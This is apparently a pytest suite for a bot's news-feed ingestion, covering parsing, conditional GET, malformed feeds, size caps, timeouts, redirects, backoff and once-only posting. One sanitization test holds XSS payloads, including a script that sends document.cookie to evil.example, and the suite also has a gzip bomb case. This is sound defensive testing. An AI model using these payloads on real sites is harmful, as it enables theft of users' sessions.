"""Feed ingestion against a real HTTP server on 127.0.0.1: formats, conditional GET,
ill-formed and hostile feeds, failures and backoff, and exactly-once posting."""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from commsbot.config import Config, load_config
from commsbot.feeds.ingest import Report, ingest
from commsbot.service.runs import run_once
from commsbot.store import Store, iso
from commsbot.store import feeds as feeds_q
from tests.support.base import BASE_CONFIG, NOW
from tests.support.feeds import FeedServer, feed_server, item, rss

INGEST = """
[ingest]
connect_timeout = 2
read_timeout = 0.3
total_timeout = 1
max_bytes = 20000
max_redirects = 2
backoff_seconds = 60
backoff_max_seconds = 600
max_failures = 3
allow_private_hosts = ["127.0.0.1"]
"""


@pytest.fixture
def server() -> Iterator[FeedServer]:
    with feed_server() as s:
        yield s


@pytest.fixture
def config(config_path: Path) -> Config:
    config_path.write_text(BASE_CONFIG + INGEST, encoding="utf-8")
    return load_config(config_path)


def poll(store: Store, config: Config, at: datetime = NOW, **options: Any) -> Report:
    return asyncio.run(ingest(store, config, clock=lambda: at, **options))


def add(store: Store, url: str, kind: str = "news", city: str | None = None) -> None:
    feeds_q.add(store, url, kind, city, None, NOW)


def news(store: Store) -> list[dict[str, Any]]:
    return store.rows("SELECT guid, title, link, summary, published, city FROM news ORDER BY id")


def feed_row(store: Store, url: str) -> dict[str, Any]:
    row = feeds_q.get(store, url)
    assert row is not None
    return row


# -- formats ---------------------------------------------------------------------------


def test_rss2_entries_become_news_with_clean_text(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    url = server.set(
        "/plzen/feed.xml",
        rss(
            [
                item(
                    "Design &lt;co&gt; creation &amp; R&amp;D in Plzeň",
                    guid="post-1",
                    link="/news/1",
                    description="&lt;p&gt;First paragraph.&lt;/p&gt;&lt;p&gt;Second: &amp;amp; "
                    "&amp;lt;co&amp;gt; &amp;eacute;t&amp;eacute;&lt;br&gt;end&lt;/p&gt;",
                ),
                item("Second", guid="https://plzen.example/p/2", date=None),
            ]
        ),
    )
    add(sample_store, url, city="plzen")

    report = poll(sample_store, config)

    assert report.totals() == {
        "feeds": 1,
        "not modified": 0,
        "parsed": 1,
        "new": 2,
        "updated": 0,
        "skipped": 0,
        "failed": 0,
        "disabled": 0,
    }
    assert news(sample_store) == [
        {
            "guid": f"{url}#post-1",  # a bare guid only means something inside its feed
            "title": "Design <co> creation & R&D in Plzeň",
            "link": server.url("/news/1"),  # resolved against the feed's location
            "summary": "First paragraph. Second: & <co> été end",
            "published": "2026-11-02T10:00:00Z",
            "city": "plzen",
        },
        {
            "guid": "https://plzen.example/p/2",
            "title": "Second",
            "link": None,
            "summary": "",
            "published": iso(NOW),  # no date in the feed: dated when first seen
            "city": "plzen",
        },
    ]


def test_atom_html_xhtml_and_content_only_entries(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    atom = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://tallinn.example/blog/">
  <title>Tallinn</title><id>urn:uuid:feed</id><updated>2026-11-01T00:00:00Z</updated>
  <entry>
    <title type="html">Tom &amp;amp; Jerry &lt;b&gt;meet&lt;/b&gt; designers</title>
    <id>tag:tallinn.example,2026:1</id><link rel="alternate" href="posts/1"/>
    <updated>2026-11-01T08:30:00Z</updated>
    <content type="html">&lt;p&gt;Hello&lt;/p&gt;&lt;p&gt;world &amp;lt;3&lt;/p&gt;</content>
  </entry>
  <entry>
    <title type="text">Plain &lt;co&gt; title</title><id>tag:tallinn.example,2026:2</id>
    <published>2026-10-31T23:30:00-02:00</published><updated>2026-11-05T00:00:00Z</updated>
    <summary type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
      <p>X</p><p>Y &amp; Z</p></div></summary>
  </entry>
</feed>"""
    url = server.set("/atom", atom, content_type="application/atom+xml")
    add(sample_store, url)

    poll(sample_store, config)

    assert news(sample_store) == [
        {
            "guid": "tag:tallinn.example,2026:1",
            "title": "Tom & Jerry meet designers",
            "link": "https://tallinn.example/blog/posts/1",
            "summary": "Hello world <3",
            "published": "2026-11-01T08:30:00Z",
            "city": None,
        },
        {
            "guid": "tag:tallinn.example,2026:2",
            "title": "Plain <co> title",
            "link": None,  # feedparser offers the tag: id as a link; it is not one
            "summary": "X Y & Z",
            "published": "2026-11-01T01:30:00Z",
            "city": None,
        },
    ]


def test_rdf_items_are_identified_by_their_about(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    rdf = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://vilnius.example/rdf"><title>Vilnius</title>
    <link>https://vilnius.example/</link><description>d</description>
    <items><rdf:Seq><rdf:li rdf:resource="https://vilnius.example/r1"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://vilnius.example/r1"><title>Kūrybinės industrijos</title>
    <link>https://vilnius.example/r1</link><description>Vilniuje</description>
    <dc:date>2026-11-01T10:00:00+02:00</dc:date></item>
</rdf:RDF>"""
    url = server.set("/rdf", rdf, content_type="application/rdf+xml")
    add(sample_store, url)

    poll(sample_store, config)

    assert news(sample_store) == [
        {
            "guid": "https://vilnius.example/r1",
            "title": "Kūrybinės industrijos",
            "link": "https://vilnius.example/r1",
            "summary": "Vilniuje",
            "published": "2026-11-01T08:00:00Z",
            "city": None,
        }
    ]


def test_newsletter_feed_makes_newsletters_and_records_skipped_entries(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    url = server.set(
        "/letters",
        rss(
            [
                item(
                    "Cross-Innovation Newsletter #3",
                    guid="n3",
                    link="https://x.example/n3",
                    description="Third issue",
                    date="Sun, 01 Nov 2026 23:30:00 +0000",
                ),
                item(
                    "Newsletter 1",
                    guid="n1-again",
                    link="https://x.example/n1",
                    date="Sat, 01 Jun 2013 10:00:00 +0000",
                ),
                item(None, guid="untitled", description="no title here"),
            ]
        ),
    )
    add(sample_store, url, kind="newsletter")

    report = poll(sample_store, config)

    assert (report.totals()["new"], report.totals()["skipped"]) == (2, 1)
    rows = sample_store.rows(
        "SELECT slug, title, url, summary, published FROM newsletters "
        "WHERE slug NOT IN ('newsletter-1', 'newsletter-2') ORDER BY id"  # the sample's
    )
    assert rows == [
        # Published on 2 November in Brussels, the config's time zone.
        {
            "slug": "cross-innovation-newsletter-3",
            "title": "Cross-Innovation Newsletter #3",
            "url": "https://x.example/n3",
            "summary": "Third issue",
            "published": "2026-11-02",
        },
        # The sample already has this slug: the ingested one gets its own.
        {
            "slug": "newsletter-1-2",
            "title": "Newsletter 1",
            "url": "https://x.example/n1",
            "summary": "",
            "published": "2013-06-01",
        },
    ]
    feed = feed_row(sample_store, url)
    assert feeds_q.skipped_entries(sample_store, feed["id"]) == [
        {
            "identity": f"{url}#untitled",
            "skipped": "no title (a newsletter needs one)",
            "updated_at": iso(NOW),
        }
    ]
    assert feed["last_warning"] == (
        f"1 entry skipped, e.g. {url}#untitled: no title (a newsletter needs one)"
    )


# -- conditional GET -----------------------------------------------------------------


def test_unchanged_feed_answers_304_and_nothing_is_parsed(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    body = rss([item("One", guid="1"), item("Two", guid="2")])
    with_etag = server.set(
        "/etag", body, etag='"v1"', last_modified="Mon, 02 Nov 2026 10:00:00 GMT"
    )
    dated = server.set("/dated", body, last_modified="Mon, 02 Nov 2026 11:00:00 GMT")
    add(sample_store, with_etag)
    add(sample_store, dated)

    first = poll(sample_store, config)
    second = poll(sample_store, config)

    assert (first.parsed, first.totals()["new"]) == (2, 4)
    assert (second.parsed, second.totals()["not modified"], second.totals()["new"]) == (0, 2, 0)
    etag_hits = server.requests_to("/etag")
    assert [h.status for h in etag_hits] == [200, 304]
    assert "if-none-match" not in etag_hits[0].headers
    assert etag_hits[1].headers["if-none-match"] == '"v1"'
    assert etag_hits[1].headers["if-modified-since"] == "Mon, 02 Nov 2026 10:00:00 GMT"
    dated_hits = server.requests_to("/dated")
    assert [h.status for h in dated_hits] == [200, 304]
    assert dated_hits[1].headers["if-modified-since"] == "Mon, 02 Nov 2026 11:00:00 GMT"
    assert feed_row(sample_store, dated)["last_status"] == 304
    assert etag_hits[0].headers["user-agent"].startswith("commsbot/0.1.0 ")


# -- ill-formed feeds ----------------------------------------------------------------


def test_truncated_feed_stores_what_was_recovered_and_refetches_in_full(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    items = [item(f"Item {n}", guid=f"g{n}", description=f"Text {n}") for n in (1, 2, 3)]
    full = rss(items)
    cut = full.index("<item><title>Item 3")
    url = server.set("/cut", full[: cut + 30], etag='"broken"')
    add(sample_store, url)

    first = poll(sample_store, config)

    assert [n["title"] for n in news(sample_store)] == ["Item 1", "Item 2"]
    feed = feed_row(sample_store, url)
    assert feed["last_warning"] == (
        "not well-formed, stored what could be read: <unknown>:2:467: unclosed token; "
        "the feed ends abruptly; its last entry waits for the next poll"
    )
    assert feed["etag"] is None  # so that the repaired feed is fetched in full
    assert first.totals()["failed"] == 0

    server.set("/cut", full, etag='"fixed"')
    second = poll(sample_store, config)

    assert [n["title"] for n in news(sample_store)] == ["Item 1", "Item 2", "Item 3"]
    assert (second.totals()["new"], second.totals()["updated"]) == (1, 0)
    assert feed_row(sample_store, url)["etag"] == '"fixed"'
    assert feed_row(sample_store, url)["last_warning"] is None


def test_missing_link_missing_guid_and_empty_entries(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    url = server.set(
        "/gaps",
        rss(
            [
                item("No link", guid="only-guid"),
                item("No guid", link="https://warsaw.example/a"),
                item("Neither", date="Tue, 03 Nov 2026 09:00:00 +0000"),
                item(None, description="Text without a title", guid="t"),
                item(None, guid="empty"),
            ]
        ),
    )
    add(sample_store, url)

    report = poll(sample_store, config)
    again = poll(sample_store, config)

    rows = news(sample_store)
    assert [(r["title"], r["link"], r["summary"]) for r in rows] == [
        ("No link", None, ""),
        ("No guid", "https://warsaw.example/a", ""),
        ("Neither", None, ""),
        ("", None, "Text without a title"),
    ]
    assert rows[1]["guid"] == "https://warsaw.example/a"  # identity by link
    assert rows[2]["guid"].startswith(f"{url}#sha256:")  # by a hash of title and date
    assert report.totals()["skipped"] == 1
    assert feeds_q.skipped_entries(sample_store, feed_row(sample_store, url)["id"]) == [
        {"identity": f"{url}#empty", "skipped": "no title and no text", "updated_at": iso(NOW)}
    ]
    # Served again without validators: parsed, and nothing is stored twice.
    assert (again.parsed, again.totals()["new"], again.totals()["skipped"]) == (1, 0, 0)
    assert len(news(sample_store)) == 4


def test_duplicate_guids_are_stored_once(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    url = server.set(
        "/dupes",
        rss([item("First", guid="same"), item("Second", guid="same"), item("Other", guid="o")]),
    )
    add(sample_store, url)

    poll(sample_store, config)

    assert [n["title"] for n in news(sample_store)] == ["First", "Other"]
    assert feed_row(sample_store, url)["last_warning"] == (
        "1 entry repeats the id of an earlier one; the first was kept"
    )


def test_wrong_encoding_declarations(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    doc = (
        '<?xml version="1.0" encoding="{decl}"?><rss version="2.0"><channel><title>T</title>'
        "<item><title>{title}</title><guid>https://x.example/{n}</guid></item></channel></rss>"
    )
    # Declared Latin-1, but UTF-8 bytes: read as UTF-8.
    utf8 = server.set(
        "/utf8",
        doc.format(decl="iso-8859-1", title="Plzeň Łódź Šiauliai", n=1).encode("utf-8"),
        content_type="application/rss+xml",
    )
    # Declared UTF-8, but Windows-1252 bytes: feedparser falls back and says so.
    cp1252 = server.set(
        "/cp1252",
        doc.format(decl="utf-8", title="Café in Málaga", n=2).encode("cp1252"),
        content_type="application/rss+xml",
    )
    add(sample_store, utf8)
    add(sample_store, cp1252)

    poll(sample_store, config)

    assert sorted(n["title"] for n in news(sample_store)) == [
        "Café in Málaga",
        "Plzeň Łódź Šiauliai",
    ]
    assert feed_row(sample_store, cp1252)["last_warning"] == (
        "not well-formed, stored what could be read: "
        "document declared as utf-8, but parsed as windows-1252"
    )


def test_html_injection_is_sanitized_into_plain_text(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    hostile = (
        '&lt;p onclick="steal()"&gt;Safe &lt;b&gt;words&lt;/b&gt;&lt;/p&gt;'
        "&lt;script&gt;document.location='https://evil.example/?'+document.cookie&lt;/script&gt;"
        '&lt;img src="x" onerror="alert(1)"&gt;'
        '&lt;p&gt;&lt;iframe src="https://evil.example/"&gt;framed&lt;/iframe&gt;&lt;/p&gt;'
        '&lt;a href="javascript:alert(2)"&gt;click&lt;/a&gt;&lt;style&gt;body{}&lt;/style&gt;'
    )
    url = server.set(
        "/hostile",
        rss(
            [
                item(
                    "&lt;script&gt;alert(3)&lt;/script&gt;Title",
                    guid="h",
                    link="https://ok.example/",
                    description=hostile,
                )
            ]
        ),
    )
    add(sample_store, url)
    poll(sample_store, config)

    row = news(sample_store)[0]
    # The RSS title is plain text: what it says is kept, literally, as words.
    assert row["title"] == "<script>alert(3)</script>Title"
    # Tags, scripts, styles and handlers are gone; the iframe's fallback text is just text.
    assert row["summary"] == "Safe words framed click"

    asyncio.run(run_once(sample_store, config, clock=lambda: NOW))
    post = sample_store.row("SELECT text FROM posts WHERE item_type = 'news'")
    assert post == {
        "text": "<script>alert(3)</script>Title\n\nSafe words framed click\n\nhttps://ok.example/"
    }


# -- fetching limits -----------------------------------------------------------------


def test_feed_over_the_size_cap_fails_without_reading_it_all(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    big = rss([item(f"Item {n}", guid=str(n), description="x" * 500) for n in range(100)])
    declared = server.set("/big", big)
    # Small on the wire, over the cap once decompressed: counted while streaming.
    bomb = server.set(
        "/bomb",
        gzip.compress(big.encode()),
        headers={"Content-Encoding": "gzip"},
    )
    add(sample_store, declared)
    add(sample_store, bomb)

    poll(sample_store, config)

    assert feed_row(sample_store, declared)["last_error"] == (
        f"larger than the cap of 20000 bytes ({len(big.encode())} bytes); see [ingest] max_bytes"
    )
    assert feed_row(sample_store, bomb)["last_error"] == (
        "larger than the cap of 20000 bytes; see [ingest] max_bytes"
    )
    assert news(sample_store) == []


def test_server_that_never_answers_times_out_and_others_are_unaffected(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    silent = server.set("/silent", stall=True)
    slow = server.set("/slow", rss([item("Slow", guid="s")]), trickle=0.05)
    fine = server.set("/fine", rss([item("Fine", guid="f")]))
    for url in (silent, slow, fine):
        add(sample_store, url)

    report = poll(sample_store, config)

    results = {o.url: (o.result, o.error) for o in report.outcomes}
    assert results == {
        silent: ("failed", "no answer within 0.3 s"),
        slow: ("failed", "no complete answer within 1 s (see [ingest] total_timeout)"),
        fine: ("stored", None),
    }
    assert [n["title"] for n in news(sample_store)] == ["Fine"]


def test_redirects_are_followed_up_to_the_limit(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    server.set("/new/feed.xml", rss([item("Moved", guid="m", link="item/1")]))
    moved = server.set("/old", status=301, redirect_to="/new/feed.xml")
    server.set("/loop-a", status=302, redirect_to="/loop-b")
    loop = server.set("/loop-b", status=302, redirect_to="/loop-a")
    add(sample_store, moved)
    add(sample_store, loop)

    poll(sample_store, config)

    # Relative links resolve against where the feed was found, after the redirect.
    assert [(n["title"], n["link"]) for n in news(sample_store)] == [
        ("Moved", server.url("/new/item/1"))
    ]
    assert feed_row(sample_store, loop)["last_error"] == "more than 2 redirects"
    assert len(server.requests_to("/loop-a")) + len(server.requests_to("/loop-b")) == 3


def test_not_a_feed_and_http_errors_are_failures(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    page = server.set("/page", "<html><body>Hello</body></html>", content_type="text/html")
    missing = server.url("/missing")
    busy = server.set("/busy", "", status=503, headers={"Retry-After": "300"})
    add(sample_store, page)
    add(sample_store, missing)
    add(sample_store, busy)

    poll(sample_store, config)

    assert feed_row(sample_store, page)["last_error"] == (
        "not an RSS or Atom feed (text/html is not an XML media type)"
    )
    assert feed_row(sample_store, missing)["last_error"] == "HTTP 404 Not Found"
    assert feed_row(sample_store, missing)["last_status"] == 404
    # The server asked for five minutes: longer than the first backoff (60 s).
    assert feed_row(sample_store, busy)["next_poll_at"] == iso(NOW + timedelta(minutes=5))


# -- failures and backoff ------------------------------------------------------------


def test_repeated_failures_back_off_then_disable_the_feed(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    broken = server.set("/broken", "oops", status=500)
    fine = server.set("/fine", rss([item("Fine", guid="f")]))
    add(sample_store, broken)
    add(sample_store, fine)

    poll(sample_store, config)
    assert feed_row(sample_store, broken)["next_poll_at"] == iso(NOW + timedelta(seconds=60))
    poll(sample_store, config, NOW + timedelta(seconds=59))  # still backing off: not asked
    assert len(server.requests_to("/broken")) == 1
    poll(sample_store, config, NOW + timedelta(seconds=60))
    assert feed_row(sample_store, broken)["next_poll_at"] == iso(NOW + timedelta(seconds=180))
    third = poll(sample_store, config, NOW + timedelta(seconds=180))

    feed = feed_row(sample_store, broken)
    assert (feed["disabled"], feed["error_count"]) == (1, 3)
    assert feed["disabled_reason"] == "3 failures in a row; last: HTTP 500 Internal Server Error"
    assert [o.result for o in third.outcomes if o.url == broken] == ["disabled"]
    poll(sample_store, config, NOW + timedelta(days=30))
    assert len(server.requests_to("/broken")) == 3  # disabled: never asked again
    assert [t["url"] for t in feeds_q.troubled(sample_store)] == [broken]
    assert feed_row(sample_store, fine)["error_count"] == 0
    assert len(server.requests_to("/fine")) == 5

    # The partner fixes the feed; an officer checks it by name, and it is back.
    server.set("/broken", rss([item("Back", guid="b")]))
    poll(sample_store, config, NOW + timedelta(days=31), urls=[broken])
    feed = feed_row(sample_store, broken)
    assert (feed["disabled"], feed["error_count"], feed["disabled_reason"]) == (0, 0, None)
    assert feeds_q.troubled(sample_store) == []


def test_gone_feed_is_disabled_at_once(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    gone = server.set("/gone", "", status=410)
    add(sample_store, gone)

    poll(sample_store, config)

    feed = feed_row(sample_store, gone)
    assert (feed["disabled"], feed["disabled_reason"]) == (
        1,
        "the server says the feed is gone for good (HTTP 410)",
    )


def test_a_feed_is_stored_whole_or_not_at_all(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    url = server.set("/feed", rss([item(f"Item {n}", guid=f"g{n}") for n in (1, 2, 3)]))
    other = server.set("/other", rss([item("Other", guid="o")]))
    add(sample_store, url)
    add(sample_store, other)
    # The store refuses the second entry halfway through the feed.
    sample_store.conn.execute(
        "CREATE TRIGGER refuse BEFORE INSERT ON news WHEN new.title = 'Item 2' "
        "BEGIN SELECT RAISE(ABORT, 'refused by test'); END"
    )

    poll(sample_store, config)

    assert [n["title"] for n in news(sample_store)] == ["Other"]
    assert feed_row(sample_store, url)["last_error"] == "could not be stored: refused by test"
    assert (
        sample_store.scalar(
            "SELECT count(*) FROM feed_entries WHERE identity LIKE ?", (f"{url}#%",)
        )
        == 0
    )

    sample_store.conn.execute("DROP TRIGGER refuse")
    poll(sample_store, config, NOW + timedelta(seconds=60))
    assert [n["title"] for n in news(sample_store)] == ["Other", "Item 1", "Item 2", "Item 3"]


# -- through the pipeline ------------------------------------------------------------


def test_ingested_news_are_posted_once_and_an_edit_is_not_reposted(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    url = server.set(
        "/news",
        rss(
            [
                item(
                    "Launch &amp; learn",
                    guid="https://p.example/1",
                    link="https://p.example/1",
                    description="&lt;p&gt;Design &amp;lt;co&amp;gt; creation.&lt;/p&gt;"
                    "&lt;p&gt;More.&lt;/p&gt;",
                )
            ]
        ),
        etag='"1"',
    )
    add(sample_store, url)

    summary, jobs = asyncio.run(run_once(sample_store, config, clock=lambda: NOW))

    assert list(jobs)[:2] == ["ingest-feeds", "publish"]  # ingested before publishing
    assert jobs["ingest-feeds"]["new"] == 1
    post = sample_store.row("SELECT id, text FROM posts WHERE item_type = 'news'")
    assert post is not None
    assert post["text"] == "Launch & learn\n\nDesign <co> creation. More.\n\nhttps://p.example/1"

    server.set(
        "/news",
        rss(
            [
                item(
                    "Launch &amp; learn (updated)",
                    guid="https://p.example/1",
                    link="https://p.example/1",
                    description="Corrected text.",
                )
            ]
        ),
        etag='"2"',
    )
    later = NOW + timedelta(hours=1)
    summary, jobs = asyncio.run(run_once(sample_store, config, clock=lambda: later))

    assert jobs["ingest-feeds"]["updated"] == 1
    assert news(sample_store)[0]["title"] == "Launch & learn (updated)"
    assert news(sample_store)[0]["summary"] == "Corrected text."
    assert summary.planned["outbox"] == 0
    assert sample_store.rows("SELECT id FROM posts WHERE item_type = 'news'") == [
        {"id": post["id"]}
    ]


def test_a_removed_feed_added_again_brings_nothing_twice(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    url = server.set(
        "/f", rss([item("Kept", guid="k"), item("No guid", link="https://l.example/")])
    )
    add(sample_store, url)
    poll(sample_store, config)

    feeds_q.remove(sample_store, url)
    add(sample_store, url)
    again = poll(sample_store, config)

    assert (again.parsed, again.totals()["new"]) == (1, 0)
    assert [n["title"] for n in news(sample_store)] == ["Kept", "No guid"]


# -- per-feed identity, language, categories (#14) ---------------------------------


def test_a_feed_reusing_another_feeds_guid_and_link_never_changes_its_items(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    shared = {"guid": "https://shared.example/1", "link": "https://shared.example/1"}
    first = server.set("/a", rss([item("Tallinn's own story", permalink=True, **shared)]))
    second = server.set("/b", rss([item("A copy elsewhere", permalink=True, **shared)]))
    add(sample_store, first)
    add(sample_store, second)
    report = poll(sample_store, config)
    assert (report.totals()["new"], report.totals()["updated"]) == (2, 0)
    rows = sample_store.rows("SELECT feed_url, title FROM news ORDER BY feed_url")
    assert [(r["feed_url"], r["title"]) for r in rows] == [
        (first, "Tallinn's own story"),
        (second, "A copy elsewhere"),
    ]
    # Each feed's edit reaches its own item only.
    server.set("/b", rss([item("A copy, edited", permalink=True, **shared)]))
    again = poll(sample_store, config, NOW + timedelta(seconds=60), every=True)
    assert (again.totals()["new"], again.totals()["updated"]) == (0, 1)
    assert [r["title"] for r in sample_store.rows("SELECT title FROM news ORDER BY feed_url")] == [
        "Tallinn's own story",
        "A copy, edited",
    ]


def test_an_older_store_keeps_its_entries_when_identity_becomes_per_feed(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    with Store(path, upto=10) as old:
        feeds_q.add(old, "https://a.example/feed", "news", None, None, NOW)
        old.conn.execute(
            "INSERT INTO feed_entries (item_type, identity, feed_id, item_id, fingerprint, "
            "first_seen_at, updated_at) VALUES ('news', 'urn:1', 1, 1, 'f', 'x', 'x')"
        )
    with Store(path) as upgraded:
        row = upgraded.row("SELECT feed_url, identity, fingerprint FROM feed_entries")
    assert row == {"feed_url": "https://a.example/feed", "identity": "urn:1", "fingerprint": "f"}


def test_the_feeds_or_entrys_language_is_stored_and_posted(
    sample_store: Store, config: Config, server: FeedServer
) -> None:
    document = rss([item("Po polsku", guid="urn:pl"), item("Lietuviškai", guid="urn:lt")])
    document = document.replace("<channel>", "<channel><language>pl-PL</language>", 1)
    document = document.replace(
        "<item><title>Lietuviškai", '<item xml:lang="lt"><title>Lietuviškai'
    )
    url = server.set("/feed", document)
    atom = server.set(
        "/atom",
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:lang="cs">'
        "<title>t</title><id>urn:f</id><updated>2026-11-02T10:00:00Z</updated>"
        "<entry><id>urn:cs</id><title>Česky</title><updated>2026-11-02T10:00:00Z</updated>"
        "<summary>Plzeň</summary></entry></feed>",
        content_type="application/atom+xml",
    )
    no_language = server.set("/plain", rss([item("No language", guid="urn:none")]))
    for feed in (url, atom, no_language):
        add(sample_store, feed)
    poll(sample_store, config)
    rows = sample_store.rows("SELECT title, language FROM news ORDER BY title")
    assert {r["title"]: r["language"] for r in rows} == {
        "Po polsku": "pl",
        "Lietuviškai": "lt",
        "Česky": "cs",
        "No language": None,
    }


def test_categories_become_hashtags_only_for_a_feed_that_asks(
    sample_store: Store, config_path: Path, server: FeedServer
) -> None:
    tagged = item("Tagged", guid="urn:t").replace(
        "</item>",
        "<category>machine-learning</category><category>web.dev</category>"
        "<category>Machine Learning</category><category>CrossInnovation</category></item>",
    )
    asks = server.set("/asks", rss([tagged]))
    plain = server.set("/plain", rss([tagged.replace("urn:t", "urn:p")]))
    config_path.write_text(
        BASE_CONFIG
        + INGEST
        + f'\n[[feeds]]\nurl = "{asks}"\nhashtags_from_categories = true\n'
        + f'\n[[feeds]]\nurl = "{plain}"\n',
        encoding="utf-8",
    )
    config = load_config(config_path)
    poll(sample_store, config)
    rows = sample_store.rows("SELECT guid, tags FROM news ORDER BY guid")
    assert {r["guid"]: r["tags"] for r in rows} == {
        "urn:p": "[]",
        "urn:t": '["machine-learning", "web.dev", "Machine Learning", "CrossInnovation"]',
    }
